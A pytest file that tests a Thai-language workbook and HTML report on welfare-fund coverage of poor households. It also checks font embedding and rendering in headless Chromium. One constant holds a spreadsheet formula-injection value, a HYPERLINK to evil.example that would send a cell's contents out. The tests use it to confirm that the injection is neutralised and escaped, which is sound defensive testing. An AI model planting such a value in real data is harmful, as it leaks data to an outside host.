"""Reports (issue 18, points 1 and 2): the workbook read back with python-calamine and its OOXML parts, the HTML
page checked as text, with fontTools, and rendered in headless Chromium with no Thai font installed."""

import base64
import datetime as dt
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import types
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from cdp_fonts import Rendering, render
from python_calamine import CalamineWorkbook
from test_marts import FUND_A, KEY, POVERTY, ROSTER, build_small_warehouse, make_cid

from flows.marts import build_marts
from flows.report_font import FONT_FAMILY
from flows.report_run import thai_datetime
from flows.report_th import COLUMN_TH, METHOD_TH, column_th
from flows.report_xlsx import INDEX_SHEET
from flows.reports import HTML_NAME, XLSX_NAME, html_report, write_reports
from flows.warehouse import connect
from schemas.marts import MART_TITLES_TH, MARTS, THAI_HEADERS

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (Debian package `chromium`)")
P9, P10, P11 = (make_cid(b) for b in ("310202000011", "310202000012", "310108000013"))
# Two more districts' worth of people, as a Buri Ram extract writes them: ปะเคียบ (อ.คูเมือง) and บ้านยาง
# (อ.เมืองบุรีรัมย์), so the outreach sheets and the chart have districts to order.
MORE_POVERTY = [
    (9, "p.csv", 8, P9, "บุญมี", "ศรีสุข", "3", "310202", "31020200003", True, {"income", "health"}),
    (10, "p.csv", 9, P10, "สมศรี", "ศรีสุข", "3", "310202", "31020200003", False, set()),
    (11, "p.csv", 10, P11, "ทองดี", "มั่นคง", "7", "310108", "31010800007", True, {"living"}),
]
MORE_ROSTER = [
    (7, "b.csv", 2, "กองทุนสวัสดิการชุมชนตำบลปะเคียบ", P9, "บุญมี", "ศรีสุข", "3", "310202", 9, "exact_id"),
    (8, "b.csv", 3, HOSTILE, None, "มานพ", "ใจงาม", "2", "310108", None, "unlinked"),
]
MANIFEST = {"run_id": "0f3c2a9e-5d1b-4c7a-9e2f-8b6d4a1c3e57", "started_at": "2026-12-01T22:40:30+00:00",
            "inputs": [{"dataset": "roster", "name": "กองทุนในเมือง.xlsx", "rows_read": 5},
                       {"dataset": "poverty", "name": "tpmap_บุรีรัมย์_2567.csv", "rows_read": 11}]}


def _level(sql: str, label: str, m: float, u: float) -> dict:
    return {"sql_condition": sql, "label_for_charts": label, "m_probability": m, "u_probability": u}


# A saved Splink model as int_link_model keeps it (settings with m and u per level), written out by hand: two
# comparisons, each with a null level, an exact level and the rest.
MODEL = {"link_type": "link_only", "probability_two_random_records_match": 0.0004, "unique_id_column_name": "record_id",
         "sql_dialect": "duckdb", "comparisons": [
             {"output_column_name": column, "comparison_description": column, "comparison_levels": [
                 {"sql_condition": f"{column}_l IS NULL OR {column}_r IS NULL", "label_for_charts": "null",
                  "is_null_level": True},
                 _level(f"{column}_l = {column}_r", "Exact match", m, u),
                 _level("ELSE", "All other comparisons", 1 - m, 1 - u)]}
             for column, m, u in (("first_name", 0.92, 0.002), ("birth_year", 0.85, 0.02))]}


def _warehouse(path: Path):
    con = connect(path)
    roster = [r if r[3] != ROSTER[-1][3] else (*r[:3], HOSTILE, *r[4:]) for r in ROSTER] + MORE_ROSTER
    build_small_warehouse(con, POVERTY + MORE_POVERTY, roster)
    build_marts(con, KEY)
    return con


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> Path:
    """Reports written twice from one warehouse that keeps a link model; a fund is named like a formula."""
    root = tmp_path_factory.mktemp("reports")
    with _warehouse(root / "saphan.duckdb") as con:
        con.execute("create table int_link_model as select 'all' as partition, 'trained' as status, "
                    "? as model_json, 'x' as sha256", [json.dumps(MODEL)])
        write_reports(con, root / "one", MANIFEST)
        write_reports(con, root / "two", MANIFEST)
    return root


@pytest.fixture(scope="module")
def book(reports) -> CalamineWorkbook:
    return CalamineWorkbook.from_path(str(reports / "one" / XLSX_NAME))


def _sheet(book: CalamineWorkbook, name: str) -> list[list]:
    return book.get_sheet_by_name(name).to_python()


def test_reports_are_byte_identical_run_to_run(reports):
    for name in (XLSX_NAME, HTML_NAME):
        one, two = (hashlib.sha256((reports / d / name).read_bytes()).hexdigest() for d in ("one", "two"))
        assert one == two, name


# --- the workbook --------------------------------------------------------------------------------------------


def _xml(reports: Path, part: str) -> ET.Element:
    with zipfile.ZipFile(reports / "one" / XLSX_NAME) as z:
        return ET.fromstring(z.read(part))


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def test_index_sheet_comes_first_and_links_every_sheet_with_what_it_holds(reports, book):
    names = book.sheet_names
    assert names[0] == INDEX_SHEET
    index = _sheet(book, INDEX_SHEET)
    assert index[1] == ["ชีต (คลิกเพื่อไป)", "เนื้อหา", "อำเภอ", "จำนวนแถว"]
    listed = [r[0] for r in index[2:]]
    assert listed == names[1:]  # every other sheet, once, in workbook order
    assert all(re.search("[ก-๙]", r[1]) for r in index[2:])  # what each holds, in Thai
    links = {h.get("ref"): h.get("location") for h in _xml(reports, "xl/worksheets/sheet1.xml").iterfind(
        ".//m:hyperlinks/m:hyperlink", NS)}
    assert links == {f"A{i + 3}": f"'{n}'!A1" for i, n in enumerate(names[1:])}
    rows = {r[0]: r[3] for r in index[2:]}
    # coverage: 1 province, 2 districts, 5 subdistricts and 6 villages with poor people
    assert rows["310101 ในเมือง"] == 2 and rows[MART_TITLES_TH["coverage"]] == 14


def test_outreach_sheets_are_in_district_order_and_complete(book):
    outreach = [n for n in book.sheet_names if re.match(r"\d{6} ", n)]
    assert outreach == ["310101 ในเมือง", "310108 บ้านยาง", "310202 ปะเคียบ"]  # อ.เมืองบุรีรัมย์, then อ.คูเมือง
    index = {r[0]: r[2] for r in _sheet(book, INDEX_SHEET)[2:]}
    assert [index[n] for n in outreach] == ["อ.เมืองบุรีรัมย์", "อ.เมืองบุรีรัมย์", "อ.คูเมือง"]
    sheet = _sheet(book, "310101 ในเมือง")
    assert "ตำบลรหัส 310101" in sheet[0][0] and "(2 คน)" in sheet[0][0]
    assert sheet[1][:3] == ["หมู่ที่", "รหัสประจำบ้าน", "รหัสแทนตัวบุคคล"]
    assert [r[1] for r in sheet[2:]] == ["31010100010", "31010100010"]
    health = sheet[1].index(THAI_HEADERS["dim_health"])
    assert [r[health] for r in sheet[2:]] == ["ใช่", "ใช่"]
    assert [r[1] for r in _sheet(book, "310202 ปะเคียบ")[2:]] == ["31020200003"]  # บุญมี is a member; สมศรี is not


def test_values_are_in_thai(book):
    members = _sheet(book, MART_TITLES_TH["member_poverty"])
    head = members[1]
    linked, method = head.index(THAI_HEADERS["linked"]), head.index(THAI_HEADERS["match_method"])
    assert {r[linked] for r in members[2:]} == {"ใช่", "ไม่ใช่"}
    assert {r[method] for r in members[2:]} == {METHOD_TH[m] for m in ("exact_id", "probabilistic", "unlinked")}
    english = {"True", "False", "true", "false", "exact_id", "id_typo", "probabilistic", "unlinked", "province",
               "district", "subdistrict", "village"}
    for name in book.sheet_names:  # the dictionary names database columns (e.g. unlinked) on purpose
        cells = {str(v) for row in _sheet(book, name)[2:] for v in (row if name != "คำอธิบายคอลัมน์" else row[4:])}
        assert not cells & english, (name, cells & english)


def test_coverage_sheet_puts_each_total_above_its_parts(book):
    coverage = _sheet(book, MART_TITLES_TH["coverage"])
    head = coverage[1]
    level, district, sub = (head.index(THAI_HEADERS[c]) for c in ("level", "district_code", "subdistrict_code"))
    rows = [(r[level], r[district], r[sub]) for r in coverage[2:]]
    assert rows[0] == ("จังหวัด", "", "")  # the province total on top
    assert [r[0] for r in rows[:3]] == ["จังหวัด", "อำเภอ", "ตำบล"]
    seen_district, seen_sub = set(), set()
    for lvl, d, s in rows[1:]:  # a district row before its subdistricts, a subdistrict row before its villages
        if lvl == "อำเภอ":
            seen_district.add(d)
        elif lvl == "ตำบล":
            assert d in seen_district
            seen_sub.add(s)
        else:
            assert lvl == "หมู่บ้าน" and s in seen_sub


def test_fund_sheet_opens_with_the_total_of_all_funds(book):
    funds = _sheet(book, MART_TITLES_TH["fund_summary"])
    head = funds[1]
    total, rest = funds[2], funds[3:]
    assert total[head.index(THAI_HEADERS["fund"])] == "รวมทุกกองทุน (3 กองทุน)" and len(rest) == 3
    for column in ("members", "linked", "unlinked", "poor_members", "linked_exact_id"):
        col = head.index(THAI_HEADERS[column])
        assert total[col] == sum(r[col] for r in rest), column
    assert total[head.index(THAI_HEADERS["members"])] == 8  # the roster's eight rows


def test_column_dictionary_is_in_thai_for_every_column(book):
    dictionary = _sheet(book, "คำอธิบายคอลัมน์")
    assert dictionary[1] == ["ชีต", "ตาราง (ในฐานข้อมูล)", "หัวคอลัมน์", "ชื่อคอลัมน์ (ในฐานข้อมูล)", "คำอธิบาย"]
    described = {(r[1], r[3]): r[4] for r in dictionary[2:]}
    assert set(described) == {(c.table, col.name) for c in MARTS for col in c.columns}
    for (table, column), text in described.items():
        assert text == column_th(table, column), (table, column)  # no column left in English
        prose = re.sub(r"\S*/\S*|TPMAP|Excel", "", text)  # file paths and proper names may stay in Latin letters
        assert re.search("[ก-๙]", text) and not re.search(r"[A-Za-z]{4,}", prose), text
    assert described[("coverage", "coverage_rate")] == "สัดส่วนที่ครอบคลุม = คนจนที่เป็นสมาชิก / คนจน"
    assert len(COLUMN_TH) >= len({col.name for c in MARTS for col in c.columns})


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_rows_repeated(reports, book):
    names = book.sheet_names
    titles = {d.get("localSheetId"): d.text for d in _xml(reports, "xl/workbook.xml").iterfind(
        ".//m:definedNames/m:definedName[@name='_xlnm.Print_Titles']", NS)}
    assert titles == {str(i): f"'{n}'!$1:$2" for i, n in enumerate(names)}
    for i in range(1, len(names) + 1):
        sheet = _xml(reports, f"xl/worksheets/sheet{i}.xml")
        setup = sheet.find("m:pageSetup", NS)
        assert setup is not None and setup.get("orientation") == "landscape" and setup.get("fitToHeight") == "0"
        assert setup.get("fitToWidth", "1") == "1"
        assert sheet.find("m:sheetPr/m:pageSetUpPr", NS).get("fitToPage") == "1"


def test_formula_like_text_is_neutralised_in_the_workbook(reports, book):
    with zipfile.ZipFile(reports / "one" / XLSX_NAME) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "a cell was written as a formula"
    funds = _sheet(book, MART_TITLES_TH["fund_summary"])
    values = [r[funds[1].index(THAI_HEADERS["fund"])] for r in funds[2:]]
    assert "'" + HOSTILE in values and HOSTILE not in values
    outreach = _sheet(book, "310108 บ้านยาง")
    assert outreach[2][outreach[1].index(THAI_HEADERS["funds"])] == "'" + HOSTILE


def test_big_person_sheets_show_their_first_rows_and_say_where_the_rest_is(tmp_path, monkeypatch):
    import flows.report_xlsx

    monkeypatch.setattr(flows.report_xlsx, "PERSON_SHEET_MAX_ROWS", 1)
    with _warehouse(tmp_path / "saphan.duckdb") as con:
        members = con.execute("select count(*) from member_poverty").fetchall()[0][0]
        write_reports(con, tmp_path, MANIFEST)
    wb = CalamineWorkbook.from_path(str(tmp_path / XLSX_NAME))
    sheet = _sheet(wb, MART_TITLES_TH["member_poverty"])
    assert members > 1 and f"of {members:,} rows" in sheet[0][0] and "marts/member_poverty/" in sheet[0][0]
    assert len([r for r in sheet[2:] if any(v not in ("", None) for v in r)]) == 1
    assert len(_sheet(wb, "310101 ในเมือง")) == 4  # title, header and both people: outreach sheets are never cut


# --- the HTML page -------------------------------------------------------------------------------------------


def _html(reports: Path) -> str:
    return (reports / "one" / HTML_NAME).read_text(encoding="utf-8")


@pytest.mark.parametrize(("utc", "shown"), [
    ("2026-12-01T22:40:30+00:00", "2 ธันวาคม พ.ศ. 2569 เวลา 05:40 น."),  # the next day in Bangkok
    ("2024-12-31T17:00:00+00:00", "1 มกราคม พ.ศ. 2568 เวลา 00:00 น."),  # and the next year
    ("2024-02-29T03:05:00+00:00", "29 กุมภาพันธ์ พ.ศ. 2567 เวลา 10:05 น."),
])
def test_run_time_is_shown_in_bangkok_with_a_buddhist_era_year(utc, shown):
    assert thai_datetime(dt.datetime.fromisoformat(utc)).startswith(shown + " (เวลาประเทศไทย, ")


def test_page_says_which_run_which_inputs_and_what_the_words_mean(reports):
    text = _html(reports)
    assert f'<dd id="run-id">{MANIFEST["run_id"]}</dd>' in text
    assert "2 ธันวาคม พ.ศ. 2569 เวลา 05:40 น." in text and "2026-12-02T05:40:30+07:00" in text
    inputs = re.search(r'<table id="inputs">.*?</table>', text, re.S).group(0)
    assert re.findall(r'<td class="t">([^<]*)</td><td>([\d,]+)</td>', inputs) == [
        ("กองทุนในเมือง.xlsx", "5"), ("tpmap_บุรีรัมย์_2567.csv", "11")]
    definitions = re.search(r'<dl id="definitions">.*?</dl>', text, re.S).group(0)
    for term in ("จนในมิติใดมิติหนึ่ง", "คนจนเป้าหมาย", "สมาชิก", "ความครอบคลุม"):
        assert f"<dt>{term}" in definitions
    assert "ถือบัตรสวัสดิการแห่งรัฐ" in definitions


def test_without_a_manifest_the_page_reads_the_one_beside_the_warehouse_or_says_unknown(tmp_path):
    with _warehouse(tmp_path / "saphan.duckdb") as con:
        unknown = html_report(con)
        (tmp_path / "manifest.json").write_text(json.dumps(MANIFEST), encoding="utf-8")
        beside = html_report(con)
    assert '<dd id="run-id">ไม่ทราบ</dd>' in unknown
    files = re.findall(r'<td class="t">([^<]*)</td><td>([\d,]+)</td>',
                       re.search(r'<table id="inputs">.*?</table>', unknown, re.S).group(0))
    assert files == [("a.csv", "5"), ("b.csv", "3"), ("p.csv", "10"), ("p2.csv", "1")]  # rows per file, as read
    assert MANIFEST["run_id"] in beside and "05:40 น." in beside


def test_subdistrict_chart_is_grouped_by_district_and_sorted_by_coverage(reports):
    chart = re.search(r'<svg[^>]*id="chart-subdistrict".*?</svg>', _html(reports), re.S).group(0)
    order = re.findall(r'data-district="(\d+)"|data-code="(\d+)"', chart)
    assert [d or s for d, s in order] == ["3101", "310108", "310101", "310102", "3102", "310202"]
    assert re.findall(r'data-part="(\d+)" data-whole="(\d+)" data-code', chart) == [
        ("0", "1"), ("2", "4"), ("1", "1"), ("1", "2")]
    assert "ไม่มีกองทุน 1 ตำบล คนจน 1 คน" in chart  # ต.ท่าคนโท... 310103: summarised, not a bar
    assert 'data-code="310103"' not in chart
    assert "ตำบลที่ไม่มีกองทุน: 1 ตำบล จาก 5 ตำบล" in _html(reports)


def test_worst_covered_villages_come_first(reports):
    table = re.search(r'<table id="worst-villages">.*?</table>', _html(reports), re.S).group(0)
    rows = re.findall(r"<tr><td class=\"t\">[^<]*</td><td class=\"t\">[^<]*</td><td class=\"t\">(\d+)</td>"
                      r"<td class=\"t\">(\d+)</td>", table)
    assert rows == [("310101", "10"), ("310108", "7"), ("310202", "3"), ("310101", "1"), ("310102", "4")]
    assert "<th>คนจนที่ยังไม่เป็นสมาชิก</th>" in table


def test_model_chart_section_appears_only_with_a_model_and_the_chart_module(tmp_path, monkeypatch):
    fake = types.ModuleType("flows.model_chart")
    fake.match_weights_svg = lambda text: f'<svg id="mw" data-n="{len(json.loads(text)["comparisons"])}"></svg>'
    with _warehouse(tmp_path / "saphan.duckdb") as con:
        assert "model-chart" not in html_report(con, MANIFEST)  # no table
        con.execute("create table int_link_model (partition varchar, status varchar, model_json varchar, "
                    "sha256 varchar)")
        con.execute("""insert into int_link_model values ('all', 'trained', '{"comparisons": [1, 2]}', 'x')""")
        monkeypatch.setitem(sys.modules, "flows.model_chart", None)  # the module absent: import fails
        assert "model-chart" not in html_report(con, MANIFEST)
        monkeypatch.setitem(sys.modules, "flows.model_chart", fake)
        page = html_report(con, MANIFEST)
    assert '<div id="model-chart">' in page and '<svg id="mw" data-n="2"></svg>' in page


def test_model_chart_section_holds_the_real_chart_of_a_kept_model(tmp_path):
    with _warehouse(tmp_path / "saphan.duckdb") as con:
        con.execute("create table int_link_model (partition varchar, status varchar, model_json varchar, "
                    "sha256 varchar)")
        con.execute("insert into int_link_model values ('all', 'trained', ?, 'x'), ('31', 'no model: no pairs', "
                    "null, null)", [json.dumps(MODEL)])
        page = html_report(con, MANIFEST)
    section = re.search(r'<div id="model-chart">(.*?)</div>', page, re.S).group(1)
    assert section.count("<svg") == 1 and "first_name" in section and "Prior" in section  # Splink's own chart
    assert "ส่วน (partition) all: ฝึกจากข้อมูลรอบนี้ (trained)" in section
    assert "<script" not in page and not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)


def test_html_is_self_contained(reports):
    text = _html(reports)
    assert "default-src 'none'" in text and "font-src data:" in text
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text), "the report must not load anything"
    assert not re.search(r"url\((?!data:font/woff2;base64,|#)", text), "a font or image from outside"  # #: in-page
    assert "<script" not in text
    assert "&quot;http://evil.example" in text or "&amp;A1" in text  # the hostile fund name is escaped text
    assert HOSTILE not in text


def _embedded_font(text: str):
    from fontTools.ttLib import TTFont

    data = re.search(r"url\(data:font/woff2;base64,([A-Za-z0-9+/=]+)\)", text).group(1)
    return TTFont(io.BytesIO(base64.b64decode(data)))


def test_embedded_font_is_a_small_subset_with_every_character_of_the_page(reports):
    text = _html(reports)
    font = _embedded_font(text)
    body = re.sub(r"<[^>]+>", "", text.split("<body>", 1)[1])
    import html as html_module

    needed = {c for c in html_module.unescape(body) if not c.isspace()}
    assert {c for c in needed if "\u0e00" <= c <= "\u0e7f"}, "the page should hold Thai"
    assert needed <= {chr(c) for c in font.getBestCmap()}
    assert len(font.getGlyphOrder()) < 250  # a subset: the whole font has over 400 characters
    assert "OFL" in str(font["name"].getDebugName(13) or "") or "Open Font License" in str(
        font["name"].getDebugName(13))


@needs_chromium
def test_html_charts_render_in_headless_chromium(reports, tmp_path):
    page = (reports / "one" / HTML_NAME).as_uri()
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run",
             "--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}"]
    done = subprocess.run([CHROMIUM, *flags, "--dump-dom", page], capture_output=True, text=True, timeout=120,
                          check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    for chart, bars in (("chart-dimension", 6), ("chart-subdistrict", 4)):
        match = re.search(rf'<svg[^>]*id="{chart}".*?</svg>', done.stdout, re.S)
        assert match, f"{chart} missing from the rendered DOM"
        assert len(re.findall(r'<rect class="bar"', match.group(0))) == bars
    assert 'data-part="2" data-whole="4"' in done.stdout  # ในเมือง: 2 of 4 poor people are members


def _with_complete_font(page: str) -> str:
    """The page set in the whole Noto Sans Thai (every glyph it has), instead of the embedded subset or nothing."""
    import fontpkg

    whole = base64.b64encode(fontpkg.path("Noto Sans Thai").read_bytes()).decode("ascii")
    face = f'@font-face{{font-family:"{FONT_FAMILY}";src:url(data:font/ttf;base64,{whole});font-weight:100 900}}'
    return re.sub(r"@font-face\{[^}]*\}", "", page).replace("<style>", "<style>" + face, 1)


def _render(page_text: str, tmp_path: Path, name: str) -> Rendering:
    page = tmp_path / name
    page.write_text(page_text, encoding="utf-8")
    return render(CHROMIUM, page.as_uri(), tmp_path / f"profile-{name}")


def _drawn_as_in_the_complete_font(page_text: str, tmp_path: Path) -> list[str]:
    """What is wrong with how Chromium drew the page (empty when nothing): a glyph from another font than the
    embedded one, or a text whose width differs from the same page set in the complete font (a box drawn)."""
    drawn = _render(page_text, tmp_path, "page.html")
    reference = _render(_with_complete_font(page_text), tmp_path, "reference.html")
    problems = [f"drawn by {family} (web font: {custom})" for family, custom in
                sorted({(f, c) for f, c, _ in drawn.fonts} - {("Noto Sans Thai", True)})]
    assert len(drawn.widths) == len(reference.widths) > 100
    problems += [f"{text!r}: {w} px, {ref} px in the complete font"
                 for (text, w), (_, ref) in zip(drawn.widths, reference.widths, strict=True) if abs(w - ref) > 0.05]
    return problems


@needs_chromium
def test_every_glyph_is_drawn_from_the_embedded_font_in_chromium(reports, tmp_path):
    """On this machine (no Thai font: fc-list :lang=th is empty in CI), the page is drawn only by its embedded
    font, and every text as wide as in the complete font: no glyph fell back, no box was drawn."""
    assert _drawn_as_in_the_complete_font(_html(reports), tmp_path) == []


@needs_chromium
@pytest.mark.parametrize("break_it", ["remove the @font-face", "leave sara am's nikhahit out of the subset"])
def test_the_glyph_check_fails_when_the_font_is_missing_or_short(reports, tmp_path, break_it):
    """The same check on the page less its @font-face (every Thai letter from a system font: a box here), and on
    a subset that lacks the nikhahit HarfBuzz splits from sara am (ตำบล drawn ต▯าบล by the embedded font itself)."""
    text = _html(reports)
    if break_it == "remove the @font-face":
        broken = re.sub(r"@font-face\{[^}]*\}", "", text)
    else:
        from flows.report_font import font_subset_woff2

        chars = "".join(sorted(set(text) - {"\u0e4d"}))
        short = base64.b64encode(font_subset_woff2(chars)).decode("ascii")
        broken = re.sub(r"base64,[A-Za-z0-9+/=]+", lambda _: "base64," + short, text, count=1)
    assert broken != text
    problems = _drawn_as_in_the_complete_font(broken, tmp_path)
    assert any("ตำบล" in p or "จำนวน" in p for p in problems), problems
    if break_it == "remove the @font-face":
        assert any(p.startswith("drawn by") for p in problems)


def test_reports_carry_no_literal_fund_member_name(reports):
    """Names from the rosters never reach the outputs (the marts are pseudonymous)."""
    text = _html(reports)
    assert FUND_A in text  # fund names are public
    for name in ("บุญมี", "ทองดี", "สมชาย"):
        assert name not in text
